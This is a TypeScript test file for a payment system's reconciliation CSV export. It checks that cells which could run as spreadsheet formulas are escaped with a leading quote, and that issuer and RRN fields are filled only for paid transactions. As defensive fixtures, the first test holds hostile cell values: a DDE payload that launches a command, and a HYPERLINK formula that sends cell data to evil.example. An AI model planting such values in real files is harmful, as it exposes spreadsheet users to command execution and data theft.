import { text as readText } from 'node:stream/consumers';
import { createPgPool, createPrismaClient, type PrismaClient, streamReconCsv } from '@pay/persistence';
import { createMerchant, insertPayin } from '@pay/testing';
import { parse } from 'csv-parse/sync';
import type { Pool } from 'pg';

/** The recon CSV opened in a spreadsheet: nothing a merchant, payer or acquirer typed runs as a formula. */
describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
  let prisma: PrismaClient;
  let pool: Pool;

  beforeAll(() => {
    prisma = createPrismaClient(process.env.DATABASE_URL as string, 2);
    pool = createPgPool(process.env.DATABASE_URL as string, 2);
  });
  afterAll(async () => {
    await prisma.$disconnect();
    await pool.end();
  });

  async function exportCsv(merchantId: number): Promise<string> {
    const from = new Date(Date.now() - 3_600_000);
    const { csv, done } = await streamReconCsv(pool, merchantId, from, new Date(Date.now() + 3_600_000));
    const body = await readText(csv);
    await done();
    return body;
  }

  it('prefixes a quote to free-text cells starting with = + - @ tab or CR; plain ids, numbers and amounts stay as they are', async () => {
    const { merchant } = await createMerchant(prisma, { name: '=cmd|\' /C calc\'!A0' });
    const hostile = ['=HYPERLINK("https://evil.example/?d="&A1,"Refund")', '+SUM(A1:A9)', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
    const harmless = ['INV-2026-0001', '-5', '+62812', 'A=1+1', "'quoted"];
    for (const id of [...hostile, ...harmless]) await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, id);
    const first = await prisma.payin.findFirstOrThrow({ where: { merchantId: merchant.id, merchantTrxId: 'INV-2026-0001' } });
    await prisma.payin.update({ where: { id: first.id }, data: { issuer: '=1+1', rrn: '@A1', nmid: '-1+1' } });

    const body = await exportCsv(merchant.id);
    const rows = parse(body, { columns: true }) as Record<string, string>[];
    const ids = rows.map((r) => r.merchantTrxId).sort();
    expect(ids).toEqual([...hostile.map((id) => `'${id}`), ...harmless].sort());
    const normal = rows.find((r) => r.merchantTrxId === 'INV-2026-0001');
    expect(normal).toMatchObject({ merchantName: "'=cmd|' /C calc'!A0", issuer: "'=1+1", rrn: "'@A1", nmid: "'-1+1", amount: '50000', fee: '500', netAmount: '49500' });
    // Unchanged bytes for an ordinary row: the id is written bare, the amounts as numbers.
    expect(body).toMatch(/^INV-2026-0001,QR[0-9A-F]{16},/m);
    expect(body).toMatch(/,50000,500,49500,/);
    // The formula with a comma and quotes stays one quoted cell.
    expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")"`);
  });

  it('fills rrn and issuer only for a paid pay-in: empty for a failed one even when the acquirer named its issuer', async () => {
    const { merchant } = await createMerchant(prisma);
    const paidId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'PAID-1');
    await prisma.payin.update({ where: { id: paidId }, data: { issuer: 'OVO' } });
    const failedId = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'FAILED-1');
    await prisma.payin.update({ where: { id: failedId }, data: { status: 'failed', issuer: 'DANA', rrn: null, successAt: null, failureReason: 'Payment failed' } });

    const rows = parse(await exportCsv(merchant.id), { columns: true }) as Record<string, string>[];
    expect(rows.find((r) => r.merchantTrxId === 'PAID-1')).toMatchObject({ status: 'success', issuer: 'OVO', rrn: expect.stringMatching(/.+/) });
    expect(rows.find((r) => r.merchantTrxId === 'FAILED-1')).toMatchObject({ status: 'failed', issuer: '', rrn: '', success_at: '' });
    // The row keeps what the acquirer said.
    expect((await prisma.payin.findUniqueOrThrow({ where: { id: failedId } })).issuer).toBe('DANA');
  });
});
